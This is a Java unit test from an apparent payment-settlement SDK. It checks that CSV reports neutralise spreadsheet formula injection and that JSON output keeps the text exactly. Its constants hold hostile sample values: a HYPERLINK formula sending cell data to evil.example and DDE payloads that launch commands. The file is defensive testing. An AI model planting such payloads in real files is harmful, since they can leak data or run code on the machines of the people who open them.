package io.settlekit.files.report;

import static io.settlekit.files.SampleFiles.AFTERPAY;
import static io.settlekit.files.SampleFiles.STL;
import static io.settlekit.files.SampleFiles.input;
import static io.settlekit.files.SampleFiles.text;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.settlekit.files.afterpay.AfterpayCsvParser;
import io.settlekit.files.afterpay.AfterpayOptions;
import io.settlekit.formats.json.ReceivableJsonLines;
import io.settlekit.files.paypal.PaypalStlParser;
import io.settlekit.money.Amount;
import io.settlekit.reconcile.Channel;
import io.settlekit.reconcile.LineKind;
import io.settlekit.reconcile.ReconciledItem;
import io.settlekit.reconcile.ReconciliationSummary;
import io.settlekit.reconcile.Receivable;
import io.settlekit.reconcile.Reconciler;
import io.settlekit.reconcile.ReportKey;
import io.settlekit.reconcile.SettlementLine;
import io.settlekit.reconcile.SettlementInput;
import io.settlekit.reconcile.SettlementParser;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Text from a provider's file that a spreadsheet would run as a formula (OWASP "CSV Injection") is written
 * neutralised in CSV reports and exactly in JSON lines; amounts stay numbers.
 */
class CsvInjectionTest {
    private static final LocalDate DAY = LocalDate.of(2025, 3, 14);
    /** The columns the SDK formats itself from amounts: plain decimals, never prefixed. */
    private static final Set<Integer> AMOUNTS = Set.of(7, 8, 9, 11, 12);
    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");
    private static final String TRIGGERS = "=+-@\t\r";

    // texts a hostile or careless provider file can carry in a reference or an id
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final String DDE = "-2+3+cmd|' /C calc'!A0";
    private static final String PLUS = "+SYNTX000000000102";
    private static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";

    private final List<ReconciledItem> items = new ArrayList<>();

    private ReconciliationSummary reconcile(Channel channel, SettlementParser parser, String receivables, SettlementInput file) {
        List<Receivable> expected = new ArrayList<>();
        new ReceivableJsonLines().read(receivables, new BufferedReader(new StringReader(text(receivables))), expected::add);
        Reconciler reconciler = new Reconciler(new ReportKey(channel, "sample", DAY), expected, items::add);
        parser.parse(List.of(file), reconciler::accept);
        return reconciler.finish(List.of(file.name()));
    }

    private String write(ReportFormat format, ReconciliationSummary summary) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ReportWriter writer = format.open(out)) {
            items.forEach(writer::item);
            writer.summary(summary);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    private static List<CsvRecord> rows(String csv) {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
            return reader.stream().toList();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    /** Every text cell is safe, every amount cell a plain number; returns the rows. */
    private static List<CsvRecord> safeRows(String csv) {
        List<CsvRecord> rows = rows(csv);
        int negatives = 0;
        for (CsvRecord row : rows.subList(1, rows.size())) {
            for (int column = 0; column < row.getFieldCount(); column++) {
                String cell = row.getField(column);
                if (AMOUNTS.contains(column)) {
                    assertThat(cell).as("amount cell %d of %s", column, row).matches(c -> c.isEmpty() || NUMBER.matcher(c).matches());
                    negatives += cell.startsWith("-") ? 1 : 0;
                } else {
                    assertThat(cell.isEmpty() || TRIGGERS.indexOf(cell.charAt(0)) < 0).as("text cell %d of %s", column, row).isTrue();
                }
            }
        }
        assertThat(negatives).as("negative amounts written as numbers").isPositive();
        return rows;
    }

    @Test
    void paypalIdsAndReferencesAreNeutralisedInCsvAndExactInJson() throws IOException {
        String stl = text(STL)
                .replace("\"ORD-100231\"", "\"" + HYPERLINK.replace("\"", "\"\"") + "\"")
                .replace("\"SYNTX000000000102\",\"ORD", "\"" + PLUS + "\",\"ORD")
                .replaceFirst("\"SYNTX000000000103\"", "\"" + DDE.replace("\"", "\"\"") + "\"")
                .replaceFirst("\"SYNTX000000000104\"", "\"" + AT + "\"");
        ReconciliationSummary summary = reconcile(Channel.PAYPAL, new PaypalStlParser(), "receivables-paypal-20250314.jsonl", input(STL, stl));

        List<CsvRecord> rows = safeRows(write(ReportFormat.CSV, summary));
        assertThat(rows).extracting(r -> r.getField(1)).contains("'" + HYPERLINK);
        assertThat(rows).extracting(r -> r.getField(3)).contains("'" + PLUS, "'" + DDE, "'" + AT, "SYNTX000000000101");
        // the amounts are the same numbers as in the JSON lines
        assertThat(rows).filteredOn(r -> r.getField(3).equals("'" + DDE)).singleElement()
                .satisfies(r -> assertThat(new BigDecimal(r.getField(7))).isEqualByComparingTo("129.99"));
        assertThat(rows).filteredOn(r -> r.getField(3).equals("SYNTX000000000105")).singleElement()
                .satisfies(r -> assertThat(r.getField(7)).isEqualTo("-64.00"));

        List<JsonNode> json = jsonLines(write(ReportFormat.JSON_LINES, summary));
        assertThat(json).extracting(j -> j.path("settlement").path("transaction_id").asText()).contains(PLUS, DDE, AT);
        assertThat(json).extracting(j -> j.path("reference").asText()).contains(HYPERLINK);
    }

    @Test
    void afterpayReferencesAndIdsAreNeutralisedInCsvAndExactInJson() throws IOException {
        String csv = text(AFTERPAY)
                .replace("\"SHOP-20451\"", "\"" + HYPERLINK.replace("\"", "\"\"") + "\"")
                .replace("\"SHOP-20452\"", "\"" + AT + "\"")
                .replace("\"SHOP-20453\",\"\"", "\"" + DDE.replace("\"", "\"\"") + "\",\"\"")
                .replace("\"100900000105\"", "\"-100900000105\"");
        ReconciliationSummary summary = reconcile(Channel.AFTERPAY, new AfterpayCsvParser(AfterpayOptions.australia()),
                "receivables-afterpay-20250314.jsonl", input(AFTERPAY, csv));

        List<CsvRecord> rows = safeRows(write(ReportFormat.CSV, summary));
        assertThat(rows).extracting(r -> r.getField(1)).contains("'" + HYPERLINK, "'" + AT, "'" + DDE);
        assertThat(rows).extracting(r -> r.getField(3)).anyMatch(id -> id.startsWith("'-100900000105|"));

        List<JsonNode> json = jsonLines(write(ReportFormat.JSON_LINES, summary));
        assertThat(json).extracting(j -> j.path("reference").asText()).contains(HYPERLINK, AT, DDE);
        assertThat(json).extracting(j -> j.path("settlement").path("transaction_id").asText())
                .anyMatch(id -> id.startsWith("-100900000105|"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"})
    void everyTriggerIsNeutralisedWhereverTheTextIs(String hostile) {
        // lines strip white space from their texts (a tab or CR first is gone before the report): the writer is asked too
        SettlementLine line = new SettlementLine(Channel.PAYPAL, "TX1", Optional.of("ORD-1"), LineKind.OTHER, "T9999",
                Amount.ofMinor("USD", -100), Amount.ofMinor("USD", 0), Instant.parse("2025-03-14T07:14:22Z"), hostile + ".csv", 5);
        Reconciler reconciler = new Reconciler(new ReportKey(Channel.PAYPAL, "sample", DAY), List.of(), items::add);
        reconciler.accept(line);
        ReconciliationSummary summary = reconciler.finish(List.of(line.file()));

        List<CsvRecord> rows = safeRows(write(ReportFormat.CSV, summary));
        assertThat(rows.get(1).getField(15)).isEqualTo("'" + (hostile + ".csv").strip());
        assertThat(CsvReportWriter.cell(hostile)).isEqualTo("'" + hostile);
        assertThat(CsvReportWriter.cell("ORD-1")).isEqualTo("ORD-1");
        assertThat(CsvReportWriter.cell("")).isEmpty();
    }

    private static List<JsonNode> jsonLines(String text) throws IOException {
        ObjectMapper mapper = new ObjectMapper();
        List<JsonNode> nodes = new ArrayList<>();
        for (String line : text.split("\n")) {
            nodes.add(mapper.readTree(line));
        }
        return nodes;
    }
}
